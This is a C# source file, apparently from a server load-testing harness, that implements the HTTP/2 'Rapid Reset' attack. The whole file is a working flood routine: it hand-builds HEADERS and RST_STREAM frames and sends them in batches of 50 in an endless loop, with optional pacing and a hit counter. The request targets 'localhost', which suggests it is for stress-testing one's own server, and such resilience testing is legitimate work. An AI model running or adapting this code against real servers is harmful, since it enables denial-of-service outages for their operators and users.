using System.Buffers.Binary;
using System.Net.Sockets;

namespace ConnectionLoad.Hostile;

/// <summary>HTTP/2 with prior knowledge (RFC 9113), as far as it takes to be a nuisance.</summary>
internal static class RapidResets
{
    public const int StreamsAtOnce = 50;

    private const int FrameHeader = 9;
    private const int StreamId = 5;
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndOfStreamAndHeaders = 0x05;
    private const byte Cancel = 8;

    // RFC 7541: GET and http from the static table, and two literals that name their headers by it.
    private static readonly byte[] s_request =
        [0x82, 0x86, 0x04, 10, .. "/plaintext"u8, 0x01, 9, .. "localhost"u8];

    private static readonly byte[] s_cancel = [0, 0, 0, Cancel];

    public static async Task SendAsync(Socket socket, Pace? pace, FloodTally tally, CancellationToken over)
    {
        await socket.SendAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])], over);
        var blows = Blows();
        await Task.WhenAll(StrikeAsync(), Silence.KeepAsync(socket, over));

        async Task StrikeAsync()
        {
            for (var stream = 1; ; stream += 2 * StreamsAtOnce)
            {
                await (pace?.AwaitTurnAsync(StreamsAtOnce, over) ?? ValueTask.CompletedTask);
                NumberStreams(blows, stream);
                await socket.SendAsync(blows, over);
                tally.Strike(StreamsAtOnce);
            }
        }
    }

    private static byte[] Blows()
    {
        byte[] blow = [.. Frame(Headers, EndOfStreamAndHeaders, 0, s_request), .. Frame(ResetStream, 0, 0, s_cancel)];
        return [.. Enumerable.Repeat(blow, StreamsAtOnce).SelectMany(static bytes => bytes)];
    }

    private static void NumberStreams(Span<byte> blows, int firstStream)
    {
        for (var (at, frame) = (0, 0); at < blows.Length; frame++)
        {
            BinaryPrimitives.WriteInt32BigEndian(blows[(at + StreamId)..], firstStream + (frame / 2 * 2));
            at += FrameHeader + blows[at + 2];
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[FrameHeader + payload.Length];
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(StreamId), stream);
        payload.CopyTo(frame, FrameHeader);
        return frame;
    }
}
